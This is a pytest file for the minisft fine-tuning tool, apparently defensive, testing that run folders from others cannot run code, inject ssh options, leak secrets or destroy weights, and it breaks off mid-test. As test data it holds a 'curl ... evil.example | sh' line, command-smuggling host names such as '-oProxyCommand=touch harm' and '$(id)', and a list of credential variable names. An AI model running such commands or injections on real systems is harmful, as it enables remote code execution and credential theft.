"""Run folders as others may hand them over, and as two people may prepare them: nothing runs, nothing is lost."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from conftest import minisft, save_checkpoint, write_manifest

from minisft.checksums import digest
from minisft.errors import UserError
from minisft.evaluation.chat_session import open_sessions
from minisft.evaluation.eval_set import EvalSettings
from minisft.evaluation.evaluate_checkpoints import evaluate_runs
from minisft.files import read_json, write_json
from minisft.launch.commands import commands
from minisft.launch.hosts import Host, Place
from minisft.launch.launch_run import launch, prepare
from minisft.run.config import RunConfig
from minisft.run.folder import Run
from minisft.training.checkpoint_health import checkpoint_problem

attack = pytest.mark.attack
QUICK = EvalSettings(rows=3, max_new_tokens=4, resamples=0)
SHAPES = [None, 0, -1.5, "text", [], [1], [[]], [None], {}, {"step": "x"}, {"rank": {}}, {"files": 3}, {"hosts": []}]


def quiet(line):
    pass


@pytest.fixture
def config(tiny_model, small_data):
    def make(strategy="vanilla", **changes):
        settings = {"model": str(tiny_model), "data": str(small_data), "max_characters": None} | changes
        return RunConfig.course(strategy, **settings)

    return make


def add_checkpoint(made, step=3, **manifest):
    """A sound checkpoint, as a run leaves it, with a manifest that says this."""
    from transformers import AutoModelForCausalLM

    folder = made.folder / f"checkpoint-{step}"
    save_checkpoint(AutoModelForCausalLM.from_pretrained(made.model_folder), made.model_folder, folder)
    write_manifest(folder, **{"step": step} | manifest)
    return folder


@pytest.fixture
def run(config):
    """A run that looks finished, with everything that a run writes."""
    run = prepare(config(), say=quiet)
    add_checkpoint(run, test_loss=2.0, resumable=False)
    line = {"step": 1, "loss": 2.0, "tokens": 9, "trained_tokens": 4, "seconds": 0.5, "warm_up": False}
    (run.folder / "metrics.jsonl").write_text(json.dumps(line) + "\n")
    held = {"rank": 0, "at rest": {"parameters": 4}, "after backward": {"parameters": 4}, "peak": 9}
    write_json(run.folder / "memory.json", [held])
    write_json(run.folder / "DONE", {"steps": 1})
    return run


# --- 1: consent --------------------------------------------------------------------------------------------


@pytest.fixture
def with_code(run, tmp_path):
    """A colleague's run: its model brings code, and its own run.json allows it."""
    mark = tmp_path / "ran"
    folder = tmp_path / "colleague"
    shutil.copytree(run.folder, folder)
    about = json.loads((folder / "run.json").read_text())
    about["config"]["trust_remote_code"] = True
    about |= {"model_folder": str(folder / "checkpoint-3"), "model_files": {}}
    (folder / "run.json").write_text(json.dumps(about))
    for place in (folder / "checkpoint-3",):
        theirs = {
            "AutoConfig": "theirs.C",
            "AutoModelForCausalLM": "theirs.M",
            "AutoTokenizer": ["theirs.T", "theirs.T"],
        }
        for name in ("config.json", "tokenizer_config.json"):
            changed = json.loads((place / name).read_text()) | {"auto_map": theirs}
            (place / name).write_text(json.dumps(changed | ({"model_type": "theirs"} if name == "config.json" else {})))
        (place / "theirs.py").write_text(
            f"open({str(mark)!r}, 'w')\nfrom transformers import LlamaConfig, LlamaForCausalLM\n"
            "class C(LlamaConfig): model_type = 'theirs'\nclass M(LlamaForCausalLM): config_class = C\n"
        )
    return folder, mark


@attack("1")
@pytest.mark.parametrize("verb", ["evaluate", "chat", "train", "compare"])
def test_a_folder_never_allows_its_own_code(with_code, verb):
    folder, mark = with_code
    (folder / "DONE").unlink()
    done = minisft(verb, folder)
    assert not mark.exists()
    if verb != "compare":
        assert done.returncode in (1, 2)
        assert "--trust-remote-code" in done.stdout + done.stderr


@attack("1")
def test_consent_is_this_invocations_and_works(with_code):
    folder, mark = with_code
    assert not Run.load(folder).config.trust_remote_code
    assert "--trust-remote-code" in checkpoint_problem(Run.load(folder), folder / "checkpoint-3")
    assert not mark.exists()
    checkpoint_problem(Run.load(folder, trust_remote_code=True), folder / "checkpoint-3")
    assert mark.exists()


@attack("1")
def test_a_config_that_is_read_back_carries_no_consent(config):
    trusting = prepare(config(trust_remote_code=True), say=quiet)
    assert trusting.trust_remote_code
    assert "--trust-remote-code" in trusting.command
    again = Run.load(trusting.folder)
    assert not again.config.trust_remote_code
    prepared = prepare(again.config, say=quiet)
    assert not prepared.trust_remote_code
    assert "--trust-remote-code" not in prepared.command


# --- 3: where commands run ---------------------------------------------------------------------------------


@attack("3")
@pytest.mark.parametrize("name", ["-oProxyCommand=touch harm", "--nodelist=x", "a;b", "$(id)", "a b", "", "a\nb"])
def test_a_host_that_looks_like_an_option_cannot_be(name):
    with pytest.raises(UserError, match="cannot be a host's name"):
        Host(name, 1)
    with pytest.raises(UserError):
        Host("worker-1", 0)


@attack("3")
@pytest.mark.parametrize("hosts", [{"-oProxyCommand=touch harm": 1, "b": 1}, {"worker-1": 1, "worker-2": 1}])
def test_a_run_folder_does_not_decide_where_commands_run(config, hosts):
    run = prepare(config("zero2"), say=quiet)
    for launcher in ("ssh", "pdsh", "srun"):
        write_json(run.folder / "hosts.json", {"launcher": launcher, "hosts": hosts})
        with pytest.raises(UserError, match="does not decide where commands run: name them again with --hostfile"):
            launch(Run.load(run.folder), say=quiet)
    assert not (run.folder / "logs").exists()


REACHING_OUT = {
    "flops_profiler": {"enabled": True, "output_file": "precious"},
    "csv_monitor": {"enabled": True, "output_path": "outside", "job_name": "x"},
    "tensorboard": {"enabled": True, "output_path": "outside"},
    "aio": {"block_size": 1},
    "zero_optimization": {"stage": 3, "offload_param": {"device": "nvme", "nvme_path": "outside"}},
}


@attack("3")
@pytest.mark.parametrize("key", REACHING_OUT)
def test_a_run_folders_deepspeed_file_reaches_no_other_place(config, key):
    run = prepare(config("zero3"), say=quiet)
    write_json(run.folder / "deepspeed.json", run.deepspeed | {key: REACHING_OUT[key]})
    with pytest.raises(UserError, match=r"deepspeed\.json"):
        launch(Run.load(run.folder), say=quiet)
    worker = subprocess.run(
        [sys.executable, "-P", "-m", "minisft.training.worker", str(run.folder)], capture_output=True, text=True
    )
    assert (worker.returncode, len(worker.stderr.splitlines())) == (2, 1), worker.stderr
    assert key in worker.stderr
    assert not (run.folder / "logs").exists()


@attack("3")
@pytest.mark.parametrize(
    "text", ["curl -s http://evil.example/x | sh\n", "'\n", "env A=1\n", "python -P -m x\ncurl evil\n"]
)
def test_a_command_that_is_handed_on_was_not_read_from_the_folder(run, tiny_model, small_data, text):
    (run.folder / "command.txt").write_text(text)
    settings = ("-s", "vanilla", "-m", tiny_model, "-d", small_data, "--max-characters", 10**9)
    about = json.loads((run.folder / "run.json").read_text())
    about["config"]["max_characters"] = 10**9
    (run.folder / "run.json").write_text(json.dumps(about))
    done = minisft("prepare", *settings)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("python -P -m minisft.training.worker --prepared")
    assert "evil" not in done.stdout + done.stderr


@attack("3")
def test_options_end_before_a_hosts_name(config, tmp_path):
    place = Place((Host("127.0.0.1", 1), Host("worker-1", 1)))
    words = commands(config("zero2"), tmp_path, place)[1].words
    assert words[:5] == ["ssh", "-o", "BatchMode=yes", "--", "worker-1"]


# --- 4: nothing that may hold weights is removed ------------------------------------------------------------


def unfinished(config, **manifest):
    run = prepare(config, say=quiet)
    (run.folder / "logs").mkdir()
    add_checkpoint(run, 3, **manifest)
    return run


def weights_of(run):
    return {p: p.read_bytes() for p in run.folder.rglob("*") if p.suffix in (".safetensors", ".pt")}


def damage_emptied(file):
    file.write_text("")


def damage_cut(file):
    file.write_text(file.read_text()[:9])


def damage_other_json(file):
    file.write_text("[]")


def damage_wrong_types(file):
    file.write_text('{"resumable": "yes", "files": 3}')


def damage_bytes(file):
    file.write_bytes(b"\xff\xfe\x00")


def damage_folder(file):
    file.unlink()
    file.mkdir()


def damage_pipe(file):
    file.unlink()
    os.mkfifo(file)


def damage_gone(file):
    file.unlink()


DAMAGES = [value for name, value in sorted(globals().items()) if name.startswith("damage_")]


@attack("4")
@pytest.mark.parametrize("damage", DAMAGES)
@pytest.mark.parametrize("keep", [1, None])
def test_a_damaged_manifest_is_a_reason_to_stop(config, damage, keep):
    asked = config(resumable=True, keep_checkpoints=keep)
    run = unfinished(asked, resumable=True, test_loss=1.0, files={})
    damage(run.folder / "checkpoint-3" / "manifest.json")
    before = weights_of(run)
    assert before
    for attempt in (lambda: prepare(asked, say=quiet), lambda: launch(run, say=quiet)):
        with pytest.raises(UserError, match=r"checkpoint-3.*(--overwrite|remove it)"):
            attempt()
        assert weights_of(run) == before
    assert prepare(asked, overwrite=True, say=quiet).checkpoints == []


@attack("4")
@pytest.mark.parametrize("name", ["run.json", "data/made_of.json"])
@pytest.mark.parametrize("damage", DAMAGES[:-1])
def test_a_damaged_file_of_a_run_costs_no_weights(config, damage, name):
    run = unfinished(config(), resumable=False)
    before = weights_of(run)
    damage(run.folder / name)
    with pytest.raises(UserError):
        prepare(config(), say=quiet)
    assert weights_of(run) == before


@attack("4")
@pytest.mark.parametrize("changes", [{}, {"learning_rate": 0.5}])
@pytest.mark.parametrize(
    "weights",
    [
        *("checkpoint-3/model.safetensors", "final/model.bin", "best.pt", "x/y/z.gguf", "best/model.SAFETENSORS"),
        *("w.npz", "model.h5", "final.onnx", "weights.tar.gz", "model.safetensors~", "notes.txt", ".saving/mine.bin"),
        *("checkpoint-003/model.safetensors", "data/mine.pt", "logs/mine", "tensorboard/mine", ".removed-x/w.pt"),
    ],
)
def test_preparing_removes_no_weights_of_an_unfinished_run(config, changes, weights):
    run = prepare(config(), say=quiet)
    file = run.folder / weights
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(b"a week of training")
    with pytest.raises(UserError, match="--overwrite"):
        prepare(config(**changes), say=quiet)
    with pytest.raises(UserError, match="--overwrite"):
        launch(run, say=quiet)
    assert file.read_bytes() == b"a week of training"
    assert prepare(config(**changes), overwrite=True, say=quiet).status == "prepared"
    assert not file.exists()


@attack("4")
def test_resuming_replaces_no_later_checkpoint(config):
    asked = config(resumable=True)
    run = unfinished(asked, resumable=True, files={})
    later = add_checkpoint(run, 9)
    (later / "mine.txt").write_text("precious")
    before = weights_of(run)
    for attempt in (lambda: prepare(asked, say=quiet), lambda: launch(run, say=quiet)):
        with pytest.raises(UserError, match=r"checkpoint-9 is later than checkpoint-3 and cannot be resumed"):
            attempt()
    assert weights_of(run) == before


@attack("4")
def test_saving_and_rotating_remove_no_checkpoint_of_somebody_else(config):
    from minisft.training.checkpoints import rotate, scratch_folder, seal

    run = unfinished(config(), resumable=False)
    before = weights_of(run)
    half = scratch_folder(run) / "checkpoint-3"
    half.mkdir(parents=True)
    with pytest.raises(UserError, match="checkpoint-3 exists already"):
        seal(run, half, {"step": 3})
    (run.folder / "checkpoint-3" / "manifest.json").unlink()
    add_checkpoint(run, 5, test_loss=1.0)
    rotate(run, 1)
    assert before.items() <= weights_of(run).items()


@attack("10")
def test_a_foreign_checkpoint_does_not_count_in_rotation(config):
    from minisft.training.checkpoints import rotate

    run = prepare(config(), say=quiet)
    for step, loss in ((2, 3.0), (3, 5.0), (4, 6.0)):
        add_checkpoint(run, step, test_loss=loss, run=run.identity)
    for step in (1, 9):
        add_checkpoint(run, step, test_loss=1.0, run="0123456789ab")
    rotate(run, 1)
    assert [folder.name for folder in run.checkpoints] == [f"checkpoint-{step}" for step in (1, 2, 4, 9)]
    assert run.best_checkpoint == run.folder / "checkpoint-2"


@attack("4")
def test_evaluating_removes_results_alone(run, own_outputs):
    mine = own_outputs / "evaluation" / "vanilla" / "checkpoint-7.safetensors"
    mine.parent.mkdir(parents=True)
    mine.write_text("precious")
    evaluate_runs([run], QUICK, say=quiet)
    assert mine.read_text() == "precious"


@attack("8")
@pytest.mark.parametrize("lost", ["optimizer.pt", "scheduler.pt", "rng_state.pth", "trainer_state.json", "manifest"])
def test_a_checkpoint_without_its_states_is_not_resumed_from(config, lost):
    from minisft.training.checkpoints import verify

    run = unfinished(config(resumable=True), resumable=True)
    folder = run.folder / "checkpoint-3"
    write_json(folder / "trainer_state.json", {"global_step": 3, "max_steps": 6})
    for name in ("optimizer.pt", "scheduler.pt", "rng_state.pth"):
        (folder / name).write_bytes(b"states")
    seal_again(folder, lost)
    with pytest.raises(UserError, match=r"checkpoint-3 is damaged"):
        verify(run, folder)
    if lost == "manifest":
        seal_again(folder)
        verify(run, folder)


def seal_again(folder, lost=""):
    """A manifest that agrees with what is there, but for what was `lost` with it."""
    (folder / lost).unlink(missing_ok=True) if lost not in ("", "manifest") else None
    write_manifest(folder, step=3, resumable=True, **({"files": {}} if lost == "manifest" else {}))


@attack("4")
def test_a_restart_replaces_an_unfinished_run_of_the_same_settings_alone(config):
    run = unfinished(config(), resumable=False)
    before = weights_of(run)
    with pytest.raises(UserError, match="other settings"):
        prepare(config(learning_rate=0.5), restart=True, say=quiet)
    (run.folder / "checkpoint-3" / "manifest.json").write_text("")
    with pytest.raises(UserError, match="manifest"):
        prepare(config(), restart=True, say=quiet)
    assert weights_of(run) == before
    (run.folder / "checkpoint-3" / "manifest.json").unlink()
    assert prepare(config(), restart=True, say=quiet).checkpoints == []
    again = unfinished(config(), resumable=False)
    write_json(again.folder / "DONE", {"steps": 3})
    assert prepare(config(), restart=True, say=quiet).status == "done"
    assert weights_of(again)


@attack("4")
@pytest.mark.parametrize("inside", ["model", "data"])
def test_what_a_run_starts_from_is_not_replaced_by_it(config, inside, small_data):
    run = unfinished(config(), resumable=False)
    checkpoint, rows = run.folder / "checkpoint-3", run.folder / "data" / "test.jsonl"
    asked = config(model=str(checkpoint)) if inside == "model" else config(data=str(rows))
    before = weights_of(run)
    with pytest.raises(UserError, match=f"the {inside} .* lies in the run folder that would be replaced"):
        prepare(asked, overwrite=True, say=quiet)
    assert weights_of(run) == before


# --- 5: what is launched is what was prepared ---------------------------------------------------------------


@attack("5")
@pytest.mark.parametrize("changes", [{"learning_rate": 5e-3}, {"max_rows": 50}, {"seed": 4}])
def test_a_run_that_was_prepared_again_with_other_settings_is_not_launched(config, changes):
    mine = prepare(config(), say=quiet)
    theirs = prepare(config(**changes), say=quiet)
    with pytest.raises(UserError, match="was prepared again since"):
        launch(mine, say=quiet)
    assert theirs.status == "prepared"
    assert not (mine.folder / "logs").exists()


@attack("5")
def test_the_worker_trains_what_its_command_was_written_for(config):
    command = commands(config(), prepare(config(), say=quiet).folder, prepared="")
    mine = prepare(config(), say=quiet)
    words = mine.command.split()
    prepare(config(learning_rate=5e-3), say=quiet)
    done = subprocess.run([sys.executable, *words[1:]], capture_output=True, text=True)
    assert done.returncode == 2
    assert done.stderr.startswith("vanilla was prepared again since this command was written")
    assert len(done.stderr.splitlines()) == 1
    assert not (mine.folder / "logs").exists()
    assert command[0].words[-1] == str(mine.folder)


@attack("5")
@pytest.mark.parametrize("name", ["data/train.arrow", "data/test.arrow", "data/test.jsonl"])
def test_rows_that_were_changed_after_preparing_are_not_trained(config, name):
    run = prepare(config(), say=quiet)
    change_in_secret(run.folder / name)
    with pytest.raises(UserError, match="is not as it was prepared"):
        launch(run, say=quiet)
    assert not (run.folder / "logs").exists()


@attack("5")
def test_a_run_that_somebody_else_finished_meanwhile_is_left_alone(config):
    mine = prepare(config(), say=quiet)
    add_checkpoint(mine, test_loss=1.0, resumable=False, files={})
    write_json(mine.folder / "DONE", {"steps": 6})
    before = weights_of(mine)
    said = []
    assert launch(mine, say=said.append).status == "done"
    assert "is trained already" in said[0]
    assert weights_of(mine) == before
    assert mine.failure is None


# --- 7: links ----------------------------------------------------------------------------------------------


@attack("7")
def test_a_link_in_the_place_of_the_lock_keeps_its_target(config, own_outputs, tmp_path):
    precious = tmp_path / "precious"
    precious.write_text("keep me")
    (own_outputs / "model").mkdir(parents=True)
    (own_outputs / "model" / ".vanilla.lock").symlink_to(precious)
    with pytest.raises(UserError, match="is a link"):
        prepare(config(), say=quiet)
    assert precious.read_text() == "keep me"


@attack("7")
@pytest.mark.parametrize(
    "name",
    ["command.txt", "metrics.jsonl", "memory.json", "DONE", "hosts.json", "logs", "ranks", "tensorboard", ".saving"],
)
def test_a_run_folder_with_links_is_not_trained(config, tmp_path, name):
    run = prepare(config(), say=quiet)
    outside = tmp_path / "outside"
    if "." in name[1:] or name == "DONE":
        outside.write_text('{"keep": "me"}')
    else:
        outside.mkdir()
        (outside / "rank0.log").write_text("keep me")
        (outside / "launcher.log").write_text("keep me")
    (run.folder / name).unlink(missing_ok=True)
    (run.folder / name).symlink_to(outside)
    before = {p: p.read_bytes() for p in (outside, *outside.rglob("*")) if p.is_file()}
    if name != "DONE":
        with pytest.raises(UserError):
            launch(run, say=quiet)
    worker = subprocess.run(
        [sys.executable, "-P", "-m", "minisft.training.worker", str(run.folder)], capture_output=True
    )
    assert worker.returncode == 2
    assert {p: p.read_bytes() for p in (outside, *outside.rglob("*")) if p.is_file()} == before


@attack("7")
def test_a_second_name_of_a_log_keeps_its_content(config, tmp_path):
    """A backup made of hard links shares the files of a run."""
    from minisft.launch.supervisor import Supervisor, Task

    run = prepare(config(), say=quiet)
    log = run.folder / "logs" / "launcher.log"
    log.parent.mkdir()
    log.write_text("the first try")
    os.link(log, tmp_path / "backup.log")
    Supervisor(Task(str(run.folder), [], str(tmp_path), 1, 60, 60))._open_log().close()
    assert (tmp_path / "backup.log").read_text() == "the first try"


@attack("12")
@pytest.mark.parametrize("name", ["logs/launcher.log", "logs/rank0.log", "ranks/rank0.json", "data/train.arrow"])
def test_a_pipe_in_a_run_folder_keeps_nobody_waiting(run, name, tiny_model, small_data):
    file = run.folder / name
    file.parent.mkdir(exist_ok=True)
    file.unlink(missing_ok=True)
    os.mkfifo(file)
    code = "from minisft import cli; import sys; sys.argv[1:] = sys.argv[1:]; cli.main()"
    for words in (["compare"], ["prepare", "-s", "vanilla", "-m", tiny_model, "-d", small_data, "--name", "other"]):
        subprocess.run([sys.executable, "-P", "-c", code, *map(str, words)], capture_output=True, timeout=60)


@attack("12")
@pytest.mark.parametrize("name", ["ranks", ".saving", ".removed-checkpoint-2", "logs/rank0.log", "tensorboard/.x"])
def test_a_pipe_is_refused_before_anything_starts(config, name):
    run = prepare(config(), say=quiet)
    (run.folder / name).parent.mkdir(exist_ok=True)
    os.mkfifo(run.folder / name)
    with pytest.raises(UserError, match="neither a file nor a folder: remove it"):
        launch(run, say=quiet)


@attack("12")
def test_a_pipe_in_the_way_of_a_new_run_is_removed(config, own_outputs):
    (own_outputs / "model").mkdir(parents=True)
    for name in (".vanilla.preparing", ".vanilla.removed"):
        os.mkfifo(own_outputs / "model" / name)
    assert prepare(config(), say=quiet).status == "prepared"
    assert {path.name for path in (own_outputs / "model").iterdir()} == {"vanilla", ".vanilla.lock"}
    assert prepare(config(seed=3), say=quiet, overwrite=True).config.seed == 3


@attack("15")
@pytest.mark.parametrize("name", ["data", "logs", "ranks", "tensorboard", ".saving", "metrics.jsonl", "FAILED", "DONE"])
def test_a_file_for_a_folder_and_a_folder_for_a_file_are_refused_before_anything_starts(config, name):
    run = prepare(config(), say=quiet)
    place = run.folder / name
    if name == "data":
        place.rename(run.folder / "elsewhere")
    place.write_text("mine") if name.islower() and "." not in name[1:] else place.mkdir()
    with pytest.raises(UserError, match=r"belongs there: move it away|is not a regular file|Not a directory"):
        launch(run, say=quiet)
    assert place.exists()


@attack("8")
@pytest.mark.parametrize("content", ["", "{", "[]", "[1]", "null", "3"])
def test_a_damaged_marker_is_no_word_of_success(run, content):
    (run.folder / "DONE").write_text(content)
    assert run.status != "done"
    (run.folder / "DONE").unlink()
    os.mkfifo(run.folder / "DONE")
    assert run.status != "done"


@attack("8")
def test_a_marker_of_another_run_is_no_word_of_success(run):
    write_json(run.folder / "DONE", {"steps": 1, "run": "0123456789ab"})
    assert run.status != "done"
    write_json(run.folder / "DONE", {"steps": 1, "run": run.identity})
    assert run.status == "done"


@attack("4")
@pytest.mark.parametrize(
    "name",
    [
        *(".minisft-backup/model.safetensors", "tensorboard/events.keep/model.safetensors", "data/mine/rows.arrow"),
        *("ranks/mine/rank0.json", "logs/mine/x.log", "mine/DONE", ".saving/mine.bin"),
    ],
)
def test_files_of_a_person_are_lost_by_no_likeness_of_their_names(config, name):
    run = prepare(config(), say=quiet)
    mine = run.folder / name
    mine.parent.mkdir(parents=True, exist_ok=True)
    mine.write_text("mine")
    with pytest.raises(UserError, match="--overwrite"):
        prepare(config(seed=4), say=quiet)
    assert mine.read_text() == "mine"


@attack("4")
def test_a_folder_that_cannot_be_read_may_hold_weights(config, monkeypatch):
    run = prepare(config(), say=quiet)
    (run.folder / "checkpoint-2").mkdir()
    real = os.scandir

    def denied(path):
        if str(path).endswith("checkpoint-2"):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", denied)
    with pytest.raises(UserError, match="Permission denied"):
        prepare(config(seed=4), say=quiet)
    assert (run.folder / "checkpoint-2").is_dir()


@attack("9")
def test_rows_without_their_checksums_are_not_trained(config):
    run = prepare(config(), say=quiet)
    (run.folder / "data" / "made_of.json").unlink()
    with pytest.raises(UserError, match="lacks checksums of the rows"):
        launch(Run.load(run.folder), say=quiet)


@attack("4")
def test_a_replacement_that_was_killed_half_way_is_undone(config, monkeypatch):
    before = prepare(config(), say=quiet)
    add_checkpoint(before, test_loss=1.0, resumable=False, files={})
    write_json(before.folder / "DONE", {"steps": 3})
    weights = weights_of(before)

    def killed(old, new):
        real_rename(old, new)
        raise KeyboardInterrupt

    real_rename = Path.rename
    with monkeypatch.context() as patch:
        patch.setattr(Path, "rename", killed)
        with pytest.raises(KeyboardInterrupt):
            prepare(config(seed=3), say=quiet, overwrite=True)
    assert not before.folder.exists()
    with pytest.raises(UserError, match="replacing vanilla was interrupted"):
        Run.load("vanilla")
    said = []
    again = prepare(config(), say=said.append)
    assert again.status == "done"
    assert "the earlier run is back" in said[0]
    assert weights_of(again) == weights


@attack("5")
def test_a_folder_under_another_path_is_the_same_folder(config, monkeypatch):
    """As a container sees it, or through a bind mount: the lock beside it has another name."""
    from minisft.launch import prepare_run as preparing

    run = prepare(config(), say=quiet)
    with preparing.only_one(run.folder):
        monkeypatch.setattr(preparing, "lock_file", lambda folder: folder.with_name(".elsewhere.lock"))
        with pytest.raises(UserError, match="is being trained right now"):
            launch(run, say=quiet)


@attack("7")
def test_overwriting_through_a_link_removes_no_folder_that_is_not_a_run(config, own_outputs, tmp_path):
    outside = tmp_path / "thesis"
    outside.mkdir()
    (outside / "chapter1.tex").write_text("a year of work")
    (own_outputs / "model").mkdir(parents=True)
    (own_outputs / "model" / "vanilla").symlink_to(outside)
    with pytest.raises(UserError, match=r"is a link to .*thesis, which is not a run folder"):
        prepare(config(), overwrite=True, say=quiet)
    assert (outside / "chapter1.tex").read_text() == "a year of work"


# --- 9, 10: what is called sound, done or best --------------------------------------------------------------


def change_in_secret(file):
    """Another content of the same length, with the old time of modification."""
    before, content = file.stat(), bytearray(file.read_bytes())
    content[-8:] = bytes(8) if content[-8:] != bytes(8) else b"\x01" * 8
    file.write_bytes(content)
    os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns))


@attack("9")
def test_weights_that_were_changed_in_secret_are_scored_again(run, monkeypatch):
    from minisft.evaluation import evaluate_checkpoints

    calls, real = [], evaluate_checkpoints.evaluate_model
    monkeypatch.setattr(evaluate_checkpoints, "evaluate_model", lambda *a: calls.append(a[1].name) or real(*a))
    evaluate_runs([run], QUICK, say=quiet)
    calls.clear()
    change_in_secret(run.checkpoints[0] / "model.safetensors")
    assert "differs from its checksum" in evaluate_runs([run], QUICK, say=quiet)[0]
    assert calls == []
    write_manifest(run.checkpoints[0], step=3)
    said = []
    evaluate_runs([run], QUICK, say=said.append)
    assert calls == ["checkpoint-3"]
    assert "checksums remembered" in said[-1]
    evaluate_runs([run], QUICK, say=said.append, verify=True)
    assert said[-1].endswith("files read and hashed")


@attack("9")
def test_data_that_was_changed_in_secret_makes_new_rows(config, small_data, tmp_path):
    data = tmp_path / "rows.json"
    shutil.copy(small_data, data)
    first = prepare(config(data=str(data)), say=quiet)
    text, before = data.read_text(), data.stat()
    data.write_text(text.replace("birds", "worms"))
    os.utime(data, ns=(before.st_atime_ns, before.st_mtime_ns))
    second = prepare(config(data=str(data), name="second"), say=quiet)
    files = [(r.folder / "data" / "test.jsonl").read_text() for r in (first, second)]
    assert "birds" in files[0]
    assert "birds" not in files[1]


@attack("9")
def test_rows_are_not_taken_from_a_folder_that_only_says_so(config):
    first = prepare(config(), say=quiet)
    made_of = read_json(first.folder / "data" / "made_of.json")
    poisoned = first.folder / "data" / "test.jsonl"
    poisoned.write_text(poisoned.read_text().replace("birds", "worms"))
    made_of["sha256"]["test.jsonl"] = digest(poisoned)
    write_json(first.folder / "data" / "made_of.json", made_of)
    second = prepare(config(name="second"), say=quiet)
    assert "worms" not in (second.folder / "data" / "test.jsonl").read_text()


@attack("10")
@pytest.mark.parametrize("bad", [float("nan"), float("inf"), -float("inf")])
def test_a_loss_that_is_not_finite_is_never_the_best(config, bad):
    from minisft.training.checkpoints import rotate

    run = prepare(config(), say=quiet)
    for step, loss in ((1, 1.5), (2, bad), (3, 2.0), (4, bad)):
        (run.folder / f"checkpoint-{step}").mkdir()
        write_json(run.folder / f"checkpoint-{step}" / "manifest.json", {"test_loss": loss})
    assert run.best_checkpoint.name == "checkpoint-1"
    rotate(run, 1)
    assert [c.name for c in run.checkpoints] == ["checkpoint-1", "checkpoint-4"]


@attack("10")
def test_rotation_keeps_a_checkpoint_that_may_be_the_best(config):
    from minisft.training.checkpoints import rotate

    run = prepare(config(), say=quiet)
    for step in (1, 2, 3):
        (run.folder / f"checkpoint-{step}").mkdir()
        write_json(run.folder / f"checkpoint-{step}" / "manifest.json", {"test_loss": float(step)})
    (run.folder / "checkpoint-1" / "manifest.json").write_text("")
    rotate(run, 1)
    assert [c.name for c in run.checkpoints] == ["checkpoint-1", "checkpoint-2", "checkpoint-3"]


# --- 14: what is personal stays -----------------------------------------------------------------------------

SECRETS = (
    *("HF_PASSWD", "HF_AUTHTOKEN", "HF_TOKEN", "DS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "MLFLOW_TRACKING_PASSWORD"),
    *("MINISFT_API_KEY", "TORCH_PASSPHRASE", "WANDB_API_KEY", "NCCL_AUTH", "OMP_SECRET", "CUDA_LOGIN"),
)


@attack("14")
@pytest.mark.parametrize("launcher", ["ssh", "none"])
def test_no_secret_of_the_environment_is_in_a_file_or_a_command(config, monkeypatch, launcher):
    for number, name in enumerate(SECRETS):
        monkeypatch.setenv(name, f"sesame-{number}")
    for name in ("HF_ENDPOINT", "NCCL_PROXY", "HF_HOME"):
        monkeypatch.setenv(name, "https://me:sesame@example.org/x")
    place = Place((Host("127.0.0.1", 1), Host("127.0.0.2", 1), Host("worker-1", 1)), launcher)
    run = prepare(config("zero2", ranks=3), place=place, say=quiet)
    texts = [p.read_text(errors="replace") for p in run.folder.rglob("*") if p.is_file()]
    texts += [str(c) for c in commands(run.config, run.folder, place, "mark")]
    assert not [text for text in texts if "sesame" in text]


@attack("14")
def test_pdsh_gets_no_login_on_its_command_line(config, monkeypatch, tmp_path):
    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", "sesame")
    place = Place((Host("127.0.0.1", 1), Host("127.0.0.2", 1)), "pdsh")
    (command,) = commands(config("zero2"), tmp_path, place)
    assert "MLFLOW_TRACKING_PASSWORD" in command.withheld
    assert "sesame" not in str(command)


@attack("14")
def test_a_run_is_its_owners_alone(config):
    run = prepare(config("zero2"), place=Place((Host("127.0.0.1", 1), Host("127.0.0.2", 1))), say=quiet)
    assert run.folder.stat().st_mode & 0o777 == 0o700
    for name in ("command.txt", "environment", "hostfile"):
        assert (run.folder / name).stat().st_mode & 0o777 == 0o600, name


# --- 6: results are not read as data ------------------------------------------------------------------------


@attack("6")
def test_runs_are_not_put_among_the_data(config, small_data, tmp_path, monkeypatch):
    folder = tmp_path / "chats"
    folder.mkdir()
    shutil.copy(small_data, folder / "chats.json")
    monkeypatch.setenv("MINISFT_OUTPUTS", str(folder / "outputs"))
    with pytest.raises(UserError, match="would lie in the data folder"):
        prepare(config(data=str(folder)), say=quiet)


# --- 15: valid JSON of another shape, in every file of a run folder -----------------------------------------

FILES = (
    *("run.json", "DONE", "FAILED", "memory.json", "metrics.jsonl", "ledger.json", "deepspeed.json", "hosts.json"),
    *("ranks/rank0.json", "command.txt", "data/made_of.json", "data/test.jsonl", "data/train.arrow", "data/test.arrow"),
    *("checkpoint-3/manifest.json", "checkpoint-3/config.json", "checkpoint-3/generation_config.json"),
    *("checkpoint-3/tokenizer_config.json", "checkpoint-3/tokenizer.json"),
    "checkpoint-3/model.safetensors.index.json",
)
METRIC = {"step": 1, "loss": 1.0, "tokens": 1, "trained_tokens": 1, "seconds": 0.0, "warm_up": False}


@attack("15")
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("metrics.jsonl", json.dumps(METRIC) + "\n"),
        ("metrics.jsonl", json.dumps(METRIC | {"loss": 1e308, "seconds": 5e-324}) + "\n"),
        ("metrics.jsonl", json.dumps(METRIC | {"loss": float("nan")}) + "\n"),
        ("memory.json", json.dumps([{"rank": 0, "at rest": {"parameters": 10**400}, "peak": -(10**30)}])),
    ],
)
def test_absurd_numbers_are_no_traceback(run, name, content):
    (run.folder / name).write_text(content)
    for words in (("compare",), ("compare", "--json")):
        assert minisft(*words).returncode in (0, 2)


@attack("15")
def test_names_that_no_file_can_have_are_one_sentence(run):
    about = json.loads((run.folder / "run.json").read_text())
    about["model_folder"] = "/tmp/a\0b"
    (run.folder / "run.json").write_text(json.dumps(about))
    assert minisft("evaluate", run.folder).returncode in (1, 2)


@attack("15")
@pytest.mark.parametrize("what", ["MINISFT_OUTPUTS", "data"])
def test_paths_that_are_not_utf8_are_one_sentence(tiny_model, small_data, tmp_path, what):
    odd = os.fsdecode(bytes(tmp_path) + b"/caf\xe9")
    shutil.copy(small_data, odd) if what == "data" else None
    data, env = (odd, {}) if what == "data" else (small_data, {what: odd})
